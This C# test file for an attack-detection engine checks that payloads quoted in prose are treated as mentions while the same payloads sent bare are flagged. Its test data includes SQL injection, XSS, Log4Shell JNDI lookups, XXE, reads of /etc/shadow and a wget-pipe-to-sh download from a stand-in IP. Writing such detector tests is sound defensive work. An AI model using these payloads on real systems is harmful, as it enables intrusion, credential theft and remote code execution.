using System.Text;
using Vedette.Engine.Signatures;
using static Vedette.Engine.Tests.Signatures.InspectorFixture;

namespace Vedette.Engine.Tests.Signatures;

/// <summary>Attacks that somebody writes about, beside the same attacks made.</summary>
public class MentionShapeTests
{
    [Theory]
    [InlineData("the tester typed `' or 1=1 --` into the form")]
    [InlineData("it says \"<script>alert(3)</script>\" where the name should be")]
    [InlineData("fix this please:\n```js\nalert('saved')\n```\nit does nothing")]
    [InlineData("```\nrm -rf build\n```")]
    [InlineData("203.0.113.7 - - [02/mar/2026:11:22:33 +0000] \"get /?q=1' or 1=1 http/1.1\" 403 12 \"-\" \"curl/8.4\"")]
    public void QuotationsAreFound(string text) => Assert.True(MentionShape.IsQuotation(Encoding.UTF8.GetBytes(text)));

    [Theory]
    [InlineData("`id`")]
    [InlineData("\"<script>alert(3)</script>\"")]
    [InlineData("the tester typed ' or 1=1 -- into \"the\" form")]
    [InlineData("please show \"all\" the things' or 'a'='a")]
    [InlineData("please show \"all\" the things; cat /etc/passwd && ls")]
    [InlineData("please read \"all\" the things ../../../etc/passwd")]
    [InlineData("there is no quotation in this sentence")]
    [InlineData("the fence is ``` not closed here at all")]
    public void OtherTextsAreNone(string text) => Assert.False(MentionShape.IsQuotation(Encoding.UTF8.GetBytes(text)));

    [Theory]
    [InlineData("The auditor entered `'; DELETE FROM members; --` as the city and nothing was lost.")]
    [InlineData("Could somebody explain why \"<img src=q onerror=alert(7)>\" opens a box on the old shop page?")]
    [InlineData("Our log shows `; cat /etc/shadow` in the printer name, twice since Monday.")]
    [InlineData("According to the advisory ${jndi:ldap://lookup.example/q} in a chat message loads a class. Please update the library.")]
    [InlineData("## Templates\n\nNever render user text: `{{8*8}}` must stay as it is on the profile page.")]
    [InlineData("Why is this slow?\n```sql\nSELECT sleep(2);\n```\nThe table has ten rows only.")]
    [InlineData("Does the parser resolve `<!ENTITY e SYSTEM \"file:///etc/hosts\">` in version four of the library?")]
    public void AnAttackThatIsQuotedIsNoneYet(string value) => Assert.False(Request(body: System.Text.Json.JsonSerializer.Serialize(new { text = value })).IsAttack, value);

    [Theory]
    [InlineData("'; DELETE FROM members; --")]
    [InlineData("<img src=q onerror=alert(7)>")]
    [InlineData("; cat /etc/shadow")]
    [InlineData("${jndi:ldap://lookup.example/q}")]
    [InlineData("{{8*8}}")]
    [InlineData("<!ENTITY e SYSTEM \"file:///etc/hosts\">")]
    [InlineData("I like this shop a lot <script src=//q.example/s.js></script> and will come back very soon")]
    [InlineData("Thank you for the nice evening' OR 'k'='k")]
    [InlineData("We had a table for four; wget http://203.0.113.8/q -O- | sh")]
    public void TheSameAttacksMadeAreFound(string value) => Assert.True(Request(body: System.Text.Json.JsonSerializer.Serialize(new { text = value })).IsAttack, value);

    [Fact]
    public void ALookupInAnAgentIsNeverAMention() =>
        Assert.True(Request(agent: "the agent of this client is ${jndi:ldap://lookup.example/q} and it is sent with each request").IsAttack);
}
